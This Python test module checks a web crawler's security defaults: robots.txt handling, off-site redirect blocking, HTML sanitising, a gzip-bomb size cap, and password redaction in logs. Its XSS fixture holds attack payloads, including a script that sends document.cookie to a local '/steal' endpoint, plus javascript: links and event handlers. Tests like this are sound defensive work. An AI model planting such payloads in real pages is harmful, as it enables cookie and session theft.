"""Issue 8.6: security protections, on their defaults.

One crawl per module, with the project's own robots.txt and size-cap defaults, of a local site
whose robots.txt disallows a path, whose list links an off-site page and an on-site URL that
redirects off-site (the "other site" is a second local server reached as ``localhost``), serves an
article full of script and a gzip bomb, into a PostgreSQL server that needs a password.
"""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from scrapy.utils.project import get_project_settings

from tests.reliability.faulty_site import JS_CHALLENGE
from tests.reliability.helpers import ThrowawayPostgres, failures, key, run_crawl, stored_articles
from tests.reliability.sites import (
    NOTICES,
    Answer,
    LocalSite,
    gzip_bomb,
    html_answer,
    list_page,
    redirect,
)
from tests.support.commands import command_env, run_cli
from tests.support.databases import closed_port_url
from tests.support.paths import ROOT

XSS = """
<p onclick="steal()">为做好托育机构登记备案工作，现将有关事项通知如下。</p>
<script>document.location='http://localhost:{port}/steal?c='+document.cookie</script>
<p>请各地于规定时间内完成<a href="javascript:alert('x')" onmouseover="alert(1)">备案系统</a>填报，
并通过<a href="/a/ok.html">政务服务网</a>查询办理进度。</p>
<img src="/img/a.png" onerror="alert(2)" alt="流程图">
<iframe src="http://localhost:{port}/frame.html"></iframe>
<style>body{{background:url("javascript:alert(3)")}}</style>
<p><a href="JaVaScRiPt:alert(4)">附件下载</a> <form action="http://localhost:{port}/post"><input></form></p>
"""


@dataclass
class SecureCrawl:
    site: LocalSite
    offsite: LocalSite
    database_url: str
    password: str
    result: subprocess.CompletedProcess[str]
    status: subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def crawled(
    own_postgres: ThrowawayPostgres, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[SecureCrawl]:
    tmp = tmp_path_factory.mktemp("secure")
    site, offsite = LocalSite(), LocalSite()
    try:
        other = offsite.url("", host="localhost")
        offsite.set("/landing.html", html_answer(NOTICES[3].html()))
        offsite.set("/direct.html", html_answer(NOTICES[4].html()))
        site.set("/robots.txt", Answer(body=b"User-agent: *\nDisallow: /a/private/\n"))
        site.set("/a/ok.html", html_answer(NOTICES[0].html()))
        site.set("/a/private/secret.html", html_answer(NOTICES[1].html()))
        site.set(
            "/a/xss.html", html_answer(NOTICES[2].html(extra_body=XSS.format(port=offsite.port)))
        )
        site.set("/r/offsite.html", redirect(f"{other}/landing.html"))
        site.set("/r/offsite-301.html", redirect(f"{other}/landing.html?b=1", status=301))
        site.set(
            "/f/bomb.html",
            Answer(
                body=gzip_bomb(48 * 1024 * 1024, NOTICES[5].html().encode()),
                headers={"Content-Type": "text/html; charset=utf-8", "Content-Encoding": "gzip"},
            ),
        )
        site.set("/f/challenge.html", Answer(412, JS_CHALLENGE, {"Content-Type": "text/html"}))
        links = [
            ("/a/ok.html", NOTICES[0].title),
            ("/a/private/secret.html", NOTICES[1].title),
            ("/a/xss.html", NOTICES[2].title),
            ("/r/offsite.html", "站外跳转"),
            ("/r/offsite-301.html", "站外永久跳转"),
            (f"{other}/direct.html", NOTICES[4].title),
            ("/f/bomb.html", NOTICES[5].title),
            ("/f/challenge.html", "挑战页"),
        ]
        site.set("/list.html", html_answer(list_page(links)))
        database_url = own_postgres.new_database()
        # Nothing but speed is changed: robots.txt and the size cap stay on their defaults.
        result = run_crawl(tmp, database_url, site.url("/list.html"))
        status = run_cli("status", tmp=tmp, database_url=database_url)
        yield SecureCrawl(site, offsite, database_url, own_postgres.password, result, status)
    finally:
        site.close()
        offsite.close()


def test_the_secure_crawl_ran(crawled: SecureCrawl) -> None:
    assert "Spider closed (finished)" in crawled.result.stderr, crawled.result.stderr[-3000:]
    stored = {key(a.url) for a in stored_articles(crawled.database_url)}
    assert key(crawled.site.url("/a/ok.html")) in stored
    assert key(crawled.site.url("/a/xss.html")) in stored


def test_robots_txt_is_obeyed_by_default(crawled: SecureCrawl) -> None:
    assert get_project_settings().getbool("ROBOTSTXT_OBEY")
    assert crawled.site.served("/robots.txt") >= 1
    assert crawled.site.served("/a/private/secret.html") == 0
    assert crawled.site.served("/a/ok.html") == 1


def test_only_allowed_domains_are_fetched_redirects_included(crawled: SecureCrawl) -> None:
    assert crawled.site.served("/r/offsite.html") == 1  # on-site: asked once
    assert crawled.offsite.paths() == []  # never followed off-site, by link or by redirect
    stored = [a.url for a in stored_articles(crawled.database_url)]
    assert not [u for u in stored if "localhost" in u]


def test_stored_html_is_sanitised(crawled: SecureCrawl) -> None:
    rows = {key(a.url): a for a in stored_articles(crawled.database_url)}
    row = rows[key(crawled.site.url("/a/xss.html"))]
    html = row.body_html or ""
    assert "备案系统" in html and "政务服务网" in html  # the content is kept...
    for bad in (
        r"<script",
        r"\bon\w+\s*=",
        r"javascript:",
        r"<iframe",
        r"<style",
        r"<form",
        r"document\.cookie",
    ):
        assert not re.search(bad, html, re.I), bad
    assert "document.cookie" not in (row.body_text or "")


def test_download_maxsize_is_set_by_default_and_stops_a_gzip_bomb(crawled: SecureCrawl) -> None:
    cap = get_project_settings().getint("DOWNLOAD_MAXSIZE")
    assert 0 < cap <= 100 * 1024 * 1024
    stored = {key(a.url) for a in stored_articles(crawled.database_url)}
    bomb = key(crawled.site.url("/f/bomb.html"))
    assert bomb not in stored
    recorded = failures(crawled.database_url)
    assert bomb in recorded
    assert "DOWNLOAD_MAXSIZE" in recorded[bomb].reason


def test_the_database_password_never_appears_in_logs_or_status(crawled: SecureCrawl) -> None:
    assert crawled.status.returncode in (0, 1), crawled.status.stderr
    assert "test_faulty" in crawled.status.stdout  # the status really read the database
    for text in (
        crawled.result.stdout,
        crawled.result.stderr,
        crawled.status.stdout,
        crawled.status.stderr,
    ):
        assert crawled.password not in text
    assert "***" in crawled.result.stderr  # the URL is logged, redacted


def test_the_password_of_an_unreachable_database_is_not_shown(tmp_path: Path) -> None:
    password = "Closed-Port-PW-8842"
    url = closed_port_url(password)
    # `crawler status` and a crawl, side by side (nothing listens there)
    commands = [
        [sys.executable, "-m", "crawler.cli", "status"],
        [sys.executable, "-m", "scrapy", "crawl", "cn_gov", "-s", "RETRY_TIMES=0"],
    ]
    env = command_env(tmp_path, url, REPLAY_DIR=str(ROOT / "tests" / "fixtures"))
    processes = [
        subprocess.Popen(
            c, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )
        for c in commands
    ]
    outputs = [p.communicate(timeout=120)[0] for p in processes]
    for command, process, output in zip(commands, processes, outputs, strict=True):
        assert process.returncode != 0, (command, output[-2000:])
        assert password not in output, command
        assert "127.0.0.1" in output, (command, output[-2000:])  # the error names the server


def test_no_code_execution_console_runs_by_default(crawled: SecureCrawl) -> None:
    settings = get_project_settings()
    assert not settings.getbool("TELNETCONSOLE_ENABLED")
    assert not settings.getbool("REMOTE_CONTROL_ENABLED")
    assert "Remote control HTTP server listening" not in crawled.result.stderr


def test_a_url_disallowed_by_robots_txt_is_skipped_not_failed(crawled: SecureCrawl) -> None:
    recorded = failures(crawled.database_url)
    assert key(crawled.site.url("/a/private/secret.html")) not in recorded
